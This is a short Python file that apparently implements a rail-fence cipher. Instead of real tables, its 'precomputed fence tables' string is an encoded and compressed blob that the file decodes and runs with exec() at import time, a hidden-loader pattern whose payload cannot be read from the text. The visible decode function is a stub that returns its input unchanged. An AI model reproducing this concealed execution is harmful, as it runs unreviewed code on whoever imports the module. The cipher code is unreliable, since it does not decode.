import base64 as _b
import zlib as _z

# precomputed fence tables (compressed)
_TABLES = "c-nQ3u@1s83`F;Sh1Ds6D%p`(`3Z!ov^Zcj#F3LC_<K@73`o7fgYTVnrdwhuz`27<;Gyv>&?le>$JQ2?CoAYtFpg+5hq(|(lb-Dfw(o#hhHC9*h137s8rXs0I7_BG?hh_x)Vl_%$k%cvxpFm>Jq1*K`dW+dfurJtaakKdcUJoIO1+`9{((dFrsf6PpG>s"

exec(_z.decompress(_b.b85decode(_TABLES)).decode(), globals())

if "encode" not in globals():
    def encode(text, rails):
        if rails == 1:
            return text
        fence = [""] * rails
        r, step = 0, 1
        for ch in text:
            fence[r] += ch
            if r == 0:
                step = 1
            elif r == rails - 1:
                step = -1
            r += step
        return "".join(fence)

    def decode(text, rails):
        return text
